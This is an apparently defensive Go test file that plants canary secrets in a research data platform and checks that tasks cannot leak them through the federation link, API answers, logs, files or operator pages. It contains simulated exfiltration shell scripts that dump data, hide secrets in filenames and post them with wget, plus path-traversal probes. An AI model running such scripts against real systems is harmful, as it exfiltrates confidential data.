package app_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tresor/app/apptest/tesclient"
	"tresor/embed/demo"
)

// Every secret begins with one of two words: values stand in data and in what programs
// wrote, names are what programs called files and tasks. Nothing else holds them.
const (
	secretValue  = "QzValueSecret"
	secretName   = "QzNameSecret"
	secretColumn = "qzcolumnsecret"
	marker       = "QzReleasedOnPurpose"
)

func secret(kind string) string { return fmt.Sprintf("%s%010d", kind, rand.Uint64()%1e10) }

// finder looks for the beginning of secrets in any of the forms in which bytes travel.
type finder struct{ needles map[string][]byte }

func newFinder(words ...string) finder {
	f := finder{map[string][]byte{}}
	for _, w := range words {
		f.needles[w] = []byte(w)
		f.needles[w+" in hex"] = []byte(hex.EncodeToString([]byte(w)))
		f.needles[w+" in HEX"] = []byte(strings.ToUpper(hex.EncodeToString([]byte(w))))
		for pad := range 3 { // the middle of the encoding does not depend on what is around
			e := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", pad) + w))
			f.needles[fmt.Sprintf("%s in base64 at %d", w, pad)] = []byte(e[(pad*8+5)/6 : len(e)-4])
		}
		var wide []byte
		for _, c := range []byte(w) {
			wide = append(wide, c, 0)
		}
		f.needles[w+" in UTF-16"] = wide
	}
	return f
}

// in lists which needles stand in b and in what is compressed in it.
func (f finder) in(b []byte) []string {
	var hits []string
	for name, n := range f.needles {
		if i := bytes.Index(b, n); i >= 0 {
			hits = append(hits, fmt.Sprintf("%s: …%q…", name, b[max(0, i-80):min(len(b), i+60)]))
		}
	}
	for rest := b; ; {
		i := bytes.Index(rest, []byte{0x1f, 0x8b, 8})
		if i < 0 {
			return hits
		}
		rest = rest[i:]
		if z, err := gzip.NewReader(bytes.NewReader(rest)); err == nil {
			plain, _ := io.ReadAll(io.LimitReader(z, 64<<20)) // what is no gzip after all ends early
			hits = append(hits, f.in(plain)...)
		}
		rest = rest[3:]
	}
}

// TestFinder: a detector that finds nothing proves nothing.
func TestFinder(t *testing.T) {
	f := newFinder(secretValue)
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	_, _ = z.Write([]byte("a " + secret(secretValue)))
	_ = z.Close()
	for _, hidden := range []string{"a" + secret(secretValue), hex.EncodeToString([]byte("ab" + secret(secretValue))), base64.StdEncoding.EncodeToString([]byte("some text " + secret(secretValue))),
		base64.URLEncoding.EncodeToString([]byte("some texts " + secret(secretValue))), base64.RawStdEncoding.EncodeToString([]byte("some textss " + secret(secretValue))), "xx" + packed.String()} {
		if len(f.in([]byte("{\"x\":\""+hidden+"\"}"))) == 0 {
			t.Errorf("it does not find %q", hidden)
		}
	}
	if hits := f.in([]byte("nothing here QzValue Secret")); len(hits) != 0 {
		t.Error(hits)
	}
}

// TestCanariesAcrossAFederation plants 1,200 secrets in a real appliance's data, lets
// tasks of a hub, of an outside client and of a person's token do with them what they
// can, lets reviewers release one file and reject another, and looks for the secrets in
// all that crossed the link, in all that was answered outside, in the hub's files, in
// the logs of both and in what an operator and an auditor can read.
func TestCanariesAcrossAFederation(t *testing.T) {
	f := startFederation(t)
	f.plant()
	var told bytes.Buffer // everything that was answered outside
	outside := f.outsiders(&told)
	ids := map[string]string{}
	for _, task := range thieves("hub") {
		ids[task.Name] = f.send(task)
	}
	released := workTask("released")
	released.Executors[0].Command[2] = "printf 'group,n\\n" + marker + ",100\\nb,200\\n' > /results/table.csv"
	ids["released"] = f.send(released)
	for who, c := range outside {
		for _, task := range thieves(who) {
			id, err := c.Create(t.Context(), task)
			if err != nil {
				t.Fatalf("%s: %v", task.Name, err)
			}
			ids[task.Name] = id
		}
	}
	f.vote(f.untilJob("released", "held").ID, "approve")
	f.vote(f.untilJob("hub rejected", "held").ID, "reject")
	for name := range ids {
		f.untilJob(name, "held", "completed", "failed", "released", "rejected", "refused")
	}
	f.until(ids["released"], "the released file is at the hub", func(x tesclient.Task) bool { return x.State == tesclient.Complete })
	f.until(ids["hub rejected"], "the hub knows of the rejection", func(x tesclient.Task) bool { return x.State == tesclient.SystemError })
	f.madeInside(len(ids) / 7)
	outside["hub"] = &tesclient.Client{Base: f.client.Base, Token: f.client.Token, HTTP: &http.Client{Transport: recording{&told}}}
	for _, id := range ids {
		for _, c := range outside {
			ask(t, c, id)
		}
	}
	zip := f.zip(ids["released"])
	people := f.readable()
	f.hub.kill()
	f.node.kill()

	all := newFinder(secretValue, secretName, secretColumn)
	f.mu.Lock()
	defer f.mu.Unlock()
	kept := f.files(f.hub.data)
	places := map[string][]byte{"the link": f.crossed.Bytes(), "answers to callers outside": told.Bytes(), "the hub's files": kept, "the released zip": zip}
	for _, p := range []*program{f.hub, f.node} {
		b, err := os.ReadFile(p.data + ".log")
		if err != nil {
			t.Fatal(err)
		}
		places["the log of the "+filepath.Base(p.data)] = b
	}
	for where, b := range places {
		f.expectNone(all, where, b)
	}
	f.expectNone(newFinder(secretValue), "what an operator and an auditor read", people) // names of files they may see
	if len(newFinder(marker).in(zip)) == 0 || !bytes.Contains(f.crossed.Bytes(), []byte("table.csv")) {
		t.Error("what was released is not found where it has to be: the detector is blind")
	}
	if n := bytes.Count(f.files(f.node.data), []byte(secretValue)); n < 1200 {
		t.Errorf("the node itself holds only %d secrets", n)
	}
	t.Logf("%d tasks; bytes looked at: %d of the link, %d of answers, %d of the hub's files, %d of the node's log, %d of pages", len(ids), f.crossed.Len(), told.Len(), len(kept), len(places["the log of the node"]), len(people))
}

func (f *federation) expectNone(find finder, where string, b []byte) {
	f.t.Helper()
	if len(b) < 1000 {
		f.t.Errorf("%s has only %d bytes: it is not what it should be", where, len(b))
	}
	for i, hit := range find.in(b) {
		if i < 5 {
			f.t.Errorf("%s: %s", where, hit)
		}
	}
}

// plant registers a dataset of 1,200 secrets in values, and in the name of a column.
func (f *federation) plant() {
	var csv strings.Builder
	csv.WriteString("person,word," + secret(secretColumn) + "\n")
	for range 600 {
		fmt.Fprintf(&csv, "%s,%s,1\n", secret(secretValue), secret(secretValue))
	}
	file := filepath.Join(filepath.Dir(f.node.data), "people.csv")
	if err := os.WriteFile(file, []byte(csv.String()), 0o644); err != nil {
		f.t.Fatal(err)
	}
	f.cli(f.node, "dataset", "register", "--as", "stefan", "--slug", "canaries", "--name", "Canaries", "--description", "For a test.", "--controller", "The test", "--licence", "none", "--source", "the test")
	f.cli(f.node, "dataset", "ingest", "canaries", file, "--as", "stefan")
	f.cli(f.node, "project", "grant", demo.ProjectSlug, "canaries", "--as", "stefan")
}

// steal prints all of the data to both streams and leaves 40 secrets as names of
// files. The word is put together inside: the script itself is no secret.
const steal = `N=$(printf 'QzName%s' Secret); S=$(awk -F, 'NR==2 {print $1}' /data/c/files/*)
cd /results; cat /data/c/files/*; cat /data/c/files/* >&2; cat /data/c/files/* > all.csv
awk -F, -v n="$N" 'NR>1 && NR<42 {f = n NR ".txt"; print $2 > f; close(f)}' /data/c/files/*
`

// askInside writes secrets into every field of a task that it makes inside, and into
// requests that are refused.
const askInside = `D=$(printf %s "$S" | tail -c 10)
printf '{"name":"%s%s","description":"%s","tags":{"%s":"%s"},"volumes":["/%s"],"executors":[{"image":"` + busybox + `","command":["echo","%s"],"env":{"X":"%s"}}],"inputs":[{"path":"/work/%s","content":"%s"}]}' "$N" "$D" "$N$D" "$N" "$S" "$N$D" "$S" "$S" "$N$D" "$S" > body.json
wget -q -O said.json --header 'Content-Type: application/json' --post-file body.json http://tes.local/ga4gh/tes/v1/tasks || exit 9
wget -q -O - "http://tes.local/ga4gh/tes/v1/tasks/$S?view=$N"
wget -q -O - --header "Idempotency-Key: $S" --post-data "{\"$S\":1" http://tes.local/ga4gh/tes/v1/tasks
printf '{"executors":[{"image":"%s","command":["x"]}],"inputs":[{"path":"/x","url":"https://%s.example.org/%s"}]}' "$S" "$S" "$S" > body.json
wget -q -O - --post-file body.json http://tes.local/ga4gh/tes/v1/tasks
wget -q -O - "http://tes.local/api/v1/$S"; wget -q -O - "http://tes.local/ga4gh/$S/x"; wget -q -O - --post-file all.csv "http://tes.local/$S"
true`

// thieves are seven tasks of somebody who wants the data out.
func thieves(who string) []tesclient.Task {
	task := func(name, end string, outputs ...tesclient.Output) tesclient.Task {
		return tesclient.Task{Name: who + " " + name, Volumes: []string{"/results"}, Outputs: outputs,
			Inputs:    []tesclient.Input{{Path: "/data/c", URL: "tresor://dataset/canaries", Type: "DIRECTORY"}},
			Executors: []tesclient.Executor{{Image: busybox, Command: []string{"sh", "-c", steal + end}, Stdout: "/results/stdout.txt", Stderr: "/results/stderr.txt"}}}
	}
	held := []tesclient.Output{{Path: "/results/all.csv", URL: "s3://away/all.csv"}, {Path: "/results/*.txt", PathPrefix: "/results", URL: "s3://away"}}
	return []tesclient.Task{
		task("held", "true", held...),
		task("rejected", `printf 'group,n\n%s,100\n%s,200\n' "$S" "$N" > table.csv`, tesclient.Output{Path: "/results/table.csv", URL: "s3://away/table.csv"}),
		task("kept", "true", tesclient.Output{Path: "/results", URL: "file:///project/" + who + "/kept", Type: "DIRECTORY"}),
		task("failed", `echo "$N$S" >&2; exit 77`, held...),
		task("missing", `mkdir -p "$N/$N"; rm all.csv`, held...),
		task("no program", `exec "/results/$N$S"`),
		task("asks inside", askInside),
	}
}

// outsiders are an outside client and a person's token at the node's own door; what
// they are answered is kept in told.
func (f *federation) outsiders(told *bytes.Buffer) map[string]*tesclient.Client {
	f.t.Helper()
	node := f.node.seat("olga")
	var p, project, tk, own struct{ ID, Token string }
	node.must("POST", "/federation/principals", map[string]string{"name": "Lab", "kind": "client"}, &p)
	node.must("GET", "/projects/"+demo.ProjectSlug, nil, &project)
	var me struct{ Person struct{ ID string } }
	f.rosa.must("GET", "/session", nil, &me)
	f.node.seat("lena").must("PUT", "/federation/principals/"+p.ID+"/projects/"+project.ID, map[string]any{"sponsor": me.Person.ID, "datasets": []string{"canaries"}}, nil)
	node.must("POST", "/federation/principals/"+p.ID+"/token", map[string]any{}, &tk)
	f.rosa.must("POST", "/tokens", map[string]any{"name": "test", "project": demo.ProjectSlug, "days": 1}, &own)
	out := map[string]*tesclient.Client{}
	for who, token := range map[string]string{"client": tk.Token, "person": own.Token} {
		out[who] = &tesclient.Client{Base: "http://" + f.nodeAt + "/ga4gh/tes/v1", Token: token, HTTP: &http.Client{Timeout: time.Minute, Transport: recording{told}}}
	}
	return out
}

// recording keeps every answer, headers and all.
type recording struct{ to *bytes.Buffer }

func (r recording) RoundTrip(q *http.Request) (*http.Response, error) {
	resp, err := http.DefaultTransport.RoundTrip(q)
	if err != nil {
		return nil, err
	}
	b, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	fmt.Fprintf(r.to, "%v\n%s\n", resp.Header, b)
	resp.Body = io.NopCloser(bytes.NewReader(b))
	return resp, err
}

// ask asks for everything about a task that there is, and for much that there is not.
func ask(t *testing.T, c *tesclient.Client, id string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	for _, view := range []string{"MINIMAL", "BASIC", "FULL", "ALL"} {
		_, _ = c.Get(ctx, id, view) // refusals are answers too
	}
	_, _ = c.Walk(ctx, tesclient.Query{Size: 10, View: "FULL"})
	_, _ = c.Walk(ctx, tesclient.Query{View: "FULL", NamePrefix: "Qz"})
	host := strings.TrimSuffix(c.Base, "/v1")
	for _, path := range []string{"/releases/" + id, "/releases/" + id + "/results/all.csv", "/v1/tasks/" + id + "/logs", "/v1/../../../api/v1/jobs/" + id + "/log", "/v1/tasks/" + id + "%2f..%2f..", "/v1/service-info"} {
		_, _ = c.Fetch(ctx, host+path)
	}
	_ = c.Cancel(ctx, id)
}

// madeInside expects so many jobs that programs inside made and named with a secret.
func (f *federation) madeInside(want int) {
	f.t.Helper()
	var list struct{ Items []jobView }
	f.rosa.must("GET", "/jobs?limit=200", nil, &list)
	n := 0
	for _, j := range list.Items {
		if strings.HasPrefix(j.Name, secretName) {
			n++
		}
	}
	if n != want {
		f.t.Errorf("programs inside made %d tasks, want %d", n, want)
	}
}

// readable is what an operator and an auditor can read of everything.
func (f *federation) readable() []byte {
	f.t.Helper()
	var all bytes.Buffer
	f.node.seat("").person("audrey", "Audrey Moreau", "auditor")
	for _, who := range []string{"olga", "audrey"} {
		d := f.node.seat(who)
		read := func(path string) []byte {
			_, b := d.do("GET", path, nil)
			fmt.Fprintf(&all, "%s\n%s\n", path, b)
			return b
		}
		for _, p := range []string{"/session", "/home", "/people", "/projects", "/projects/aurora", "/projects/aurora/tree", "/datasets", "/datasets/canaries", "/images", "/releases", "/audit?limit=500", "/audit/export",
			"/federation", "/federation/requests", "/federation/sources", "/federation/principals/" + f.principal, "/federation/principals/" + f.principal + "/ledger?limit=500", "/plugins", "/plugins/tes", "/tokens",
			"/system", "/metrics", "/search?q=Qz", "/search?q=QzValue"} {
			read(p)
		}
		var list struct {
			Items []struct {
				ID      string
				Name    string
				Items   []struct{ ID string }
				Outputs []struct{ ID string }
			}
		}
		_ = json.Unmarshal(read("/jobs?limit=200"), &list) // what is refused has no jobs
		for _, j := range list.Items {
			if strings.HasPrefix(j.Name, secretName) {
				continue // its command is a program's own words, and the operator sees what runs
			}
			read("/jobs/" + j.ID + "/log")
			read("/jobs/" + j.ID + "/usage")
			one := list.Items[0]
			_ = json.Unmarshal(read("/jobs/"+j.ID), &one)
			for _, o := range one.Outputs {
				read("/jobs/" + j.ID + "/outputs/" + o.ID + "/preview")
			}
		}
		list.Items = nil
		_ = json.Unmarshal(read("/airlock"), &list)
		for _, r := range list.Items {
			one := r
			_ = json.Unmarshal(read("/airlock/"+r.ID), &one)
			for _, i := range one.Items {
				read("/airlock/" + r.ID + "/items/" + i.ID + "/view")
			}
		}
	}
	return all.Bytes()
}

// zip is what the hub has of a task, unpacked.
func (f *federation) zip(task string) []byte {
	f.t.Helper()
	code, b := f.hub.seat("hanna").do("GET", "/hub/tasks/"+task+"/results/north", nil)
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if code != 200 || err != nil {
		f.t.Fatalf("%d, %v: %s", code, err, b)
	}
	all := bytes.NewBuffer(b)
	for _, file := range z.File {
		r, err := file.Open()
		if err == nil {
			_, err = fmt.Fprintln(all, file.Name, file.Comment)
		}
		if err == nil {
			_, err = io.Copy(all, r)
		}
		if err != nil {
			f.t.Fatal(err)
		}
	}
	return all.Bytes()
}

// files is every byte below a folder.
func (f *federation) files(dir string) []byte {
	f.t.Helper()
	var all bytes.Buffer
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil // a socket, or what the account of containers keeps to itself
		}
		b, err := os.ReadFile(path)
		fmt.Fprintf(&all, "%s\n%s\n", path, b)
		return err
	})
	if err != nil {
		f.t.Fatal(err)
	}
	return all.Bytes()
}
